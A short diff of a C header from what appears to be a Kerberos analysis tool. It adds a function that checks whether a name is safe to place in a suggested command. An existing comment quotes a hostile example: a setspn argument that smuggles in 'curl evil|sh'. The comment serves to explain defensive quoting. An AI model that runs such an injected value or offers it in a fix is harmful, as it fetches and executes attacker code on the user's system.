@@ -123,6 +123,8 @@ const char *kf_rule_fmt(struct kf_rule_ctx *ctx, const char *fmt, ...) __attribu
  * finding's fix ends with a note showing the name quoted (names are hostile:
  * `setspn -S HTTP/web$(curl evil|sh)` must never be suggested). */
 const char *kf_rule_cmd_arg(struct kf_rule_ctx *ctx, const char *name);
+/* True when name keeps to that grammar (no note, no "<name>"). */
+bool kf_rule_name_cmd_safe(const char *name);
 
 /* True when a KRB-ERROR from a KDC was recovered from at once: the same
  * client got a successful reply (AS-REP / TGS-REP) for the same request
